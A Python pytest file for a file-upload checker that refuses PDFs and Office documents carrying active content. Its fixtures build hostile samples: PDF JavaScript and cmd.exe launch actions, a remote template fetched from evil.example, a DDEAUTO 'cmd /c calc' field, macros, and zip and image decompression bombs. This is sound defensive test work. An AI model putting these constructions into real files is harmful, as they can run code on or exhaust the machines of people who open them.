"""Files are parsed as what they claim to be, and active content is refused (issue 7 item 11).
Every crafted file is built here; the clean ones are the same builders without the hostile part."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from skillbase.files import content, sniff
from skillbase.files.content import Refusal
from tests.forms import JPEG_BYTES, PDF_BYTES, PNG_BYTES, ooxml, pdf

JS_ACTION = "<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>"
EXTERNAL_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
    ' Target="https://www.shunyi.gov.cn/" TargetMode="External"/></Relationships>'
)


def verdict(tmp_path: Path, data: bytes, kind: str) -> Refusal | None:
    path = tmp_path / "upload"
    path.write_bytes(data)
    try:
        content.check(path, kind)
    except Refusal as refusal:
        return refusal
    return None


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PDF_BYTES, sniff.PDF),
        (pdf(catalog="/OpenAction [3 0 R /Fit] "), sniff.PDF),  # opening at a page is a destination, not an action
        (
            pdf(page="/Annots [4 0 R] ", extra=("<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.cn) >> >>",)),
            sniff.PDF,
        ),
        (PNG_BYTES, sniff.PNG),
        (JPEG_BYTES, sniff.JPEG),
        (ooxml("xlsx"), sniff.XLSX),
        (ooxml("docx"), sniff.DOCX),
        (ooxml("docx", parts={"word/_rels/document.xml.rels": HYPERLINK}), sniff.DOCX),
        (ooxml("docx", parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx")}), sniff.DOCX),  # a chart's data
        # Compressed stream data that happens to hold a short tag-like run further in is not HTML.
        (pdf(extra=("<< /Length 10 >>\nstream\n" + "x" * 1100 + "<img <svg\nendstream",)), sniff.PDF),
    ],
)
def test_clean_files_pass(tmp_path: Path, data: bytes, kind: str) -> None:
    assert verdict(tmp_path, data, kind) is None


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (pdf(catalog="/OpenAction 4 0 R ", extra=(JS_ACTION,)), "javascript"),
        (pdf(catalog="/OpenAction << /S /JavaScript /JS 4 0 R >> ", extra=("<< /Length 5 >>\nstream\nhello\nendstream",)), "javascript"),
        (pdf(catalog="/Names << /JavaScript 4 0 R >> ", extra=("<< /Names [(a) 5 0 R] >>", JS_ACTION)), "javascript"),
        (pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >> "), "launch"),
        (pdf(page="/AA << /O 4 0 R >> ", extra=("<< /S /GoTo /D [3 0 R /Fit] >>",)), "auto_action"),
        (pdf(catalog="/Names << /EmbeddedFiles 4 0 R >> ", extra=("<< /Names [] >>",)), "embedded_file"),
        (pdf(catalog="/OpenAction << /S /URI /URI (https://evil.example/) >> "), "open_action"),
        (pdf(catalog="/J#61vaScript 4 0 R ", extra=(JS_ACTION,)), "javascript"),  # name escapes decode
        (pdf(extra=(JS_ACTION,)), "javascript"),  # unreferenced, still listed in the xref
        (pdf(head=b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n"), "html_polyglot"),
    ],
)
def test_active_pdfs_are_refused(tmp_path: Path, data: bytes, reason: str) -> None:
    refusal = verdict(tmp_path, data, sniff.PDF)
    assert refusal is not None and refusal.reason == reason and not refusal.malformed


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"%PDF-1.4\n", sniff.PDF),
        (b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", sniff.PDF),  # no pages
        (b"%PDF-1.7\n" + b"\x00" * 500, sniff.PDF),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, sniff.PNG),
        (PNG_BYTES[:-20] + b"\x00" * 20, sniff.PNG),  # truncated / bad CRC
        (b"\xff\xd8\xff\xe0" + b"\x00" * 64, sniff.JPEG),
        (JPEG_BYTES[: len(JPEG_BYTES) // 2], sniff.JPEG),
        (PNG_BYTES, sniff.JPEG),  # claims one image kind, is another
        (b"PK\x03\x04" + b"\x00" * 100, sniff.XLSX),
        (ooxml("xlsx", parts={"xl/workbook.xml": "<unclosed>"}), sniff.XLSX),
        (ooxml("xlsx", parts={"xl/workbook.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), sniff.XLSX),
        (ooxml("docx"), sniff.XLSX),  # a document is not a workbook
    ],
)
def test_files_that_do_not_parse_as_their_type_are_refused(tmp_path: Path, data: bytes, kind: str) -> None:
    refusal = verdict(tmp_path, data, kind)
    assert refusal is not None and refusal.malformed, refusal


def test_a_spreadsheet_bomb_is_refused_by_what_it_inflates_to(tmp_path: Path) -> None:
    buf = io.BytesIO(ooxml("xlsx"))
    with (
        zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as z,
        z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh,
    ):
        zeros = b"0" * (1024 * 1024)
        for _ in range(300):  # 300 MiB of zeros, about 300 KiB compressed
            fh.write(zeros)
    data = buf.getvalue()
    assert len(data) < 2 * 1024 * 1024
    refusal = verdict(tmp_path, data, sniff.XLSX)
    assert refusal is not None and refusal.reason == "decompression_bomb"


def test_a_bomb_that_lies_about_its_size_is_still_caught(tmp_path: Path) -> None:
    """An archive claiming small members is never inflated beyond its claim: the lie fails the CRC, and is refused."""
    buf = io.BytesIO()
    source = zipfile.ZipFile(io.BytesIO(ooxml("xlsx")))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in source.infolist():
            z.writestr(info.filename, source.read(info))
        z.writestr("xl/worksheets/sheet1.xml", b"<x>" + b" " * (20 * 1024 * 1024) + b"</x>")
    forged = bytearray(buf.getvalue())
    cd = forged.rfind(b"PK\x01\x02")  # the last central-directory entry: the sheet
    forged[cd + 24 : cd + 28] = (100).to_bytes(4, "little")
    refusal = verdict(tmp_path, bytes(forged), sniff.XLSX)
    assert refusal is not None and refusal.malformed


@pytest.mark.parametrize(
    ("data", "kind", "reason"),
    [
        (ooxml("xlsx", parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), sniff.XLSX, "macros"),
        (
            ooxml("xlsx", overrides={"/xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
            sniff.XLSX,
            "macros",
        ),
        (ooxml("xlsx", parts={"xl/macrosheets/sheet1.xml": "<x/>"}), sniff.XLSX, "embedded_object"),
        (ooxml("docx", parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), sniff.DOCX, "macros"),
        (ooxml("docx", parts={"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}), sniff.DOCX, "external_reference"),
        (
            ooxml("docx", parts={"word/_rels/document.xml.rels": HYPERLINK.replace("https://www.shunyi.gov.cn/", "file://evil/share")}),
            sniff.DOCX,
            "external_reference",
        ),
        (ooxml("docx", parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), sniff.DOCX, "embedded_object"),
        (
            ooxml("docx", parts={"word/embeddings/Book1.xlsx": ooxml("xlsx", parts={"xl/vbaProject.bin": b"\xd0\xcf"})}),
            sniff.DOCX,
            "macros",
        ),
        (
            ooxml(
                "docx",
                parts={"word/document.xml": '<w:document xmlns:w="urn:w"><w:instrText> DDEAUTO cmd "/c calc"</w:instrText></w:document>'},
            ),
            sniff.DOCX,
            "dde",
        ),
    ],
)
def test_active_office_files_are_refused(tmp_path: Path, data: bytes, kind: str, reason: str) -> None:
    refusal = verdict(tmp_path, data, kind)
    assert refusal is not None and refusal.reason == reason and not refusal.malformed


def test_an_image_bomb_is_refused(tmp_path: Path) -> None:
    import struct
    import zlib

    ihdr = b"IHDR" + struct.pack("!IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)  # 900 Mpx claimed, a few bytes sent
    header = struct.pack("!I", 13) + ihdr + struct.pack("!I", zlib.crc32(ihdr))
    refusal = verdict(tmp_path, PNG_BYTES[:8] + header + PNG_BYTES[33:], sniff.PNG)
    assert refusal is not None and refusal.reason == "decompression_bomb"
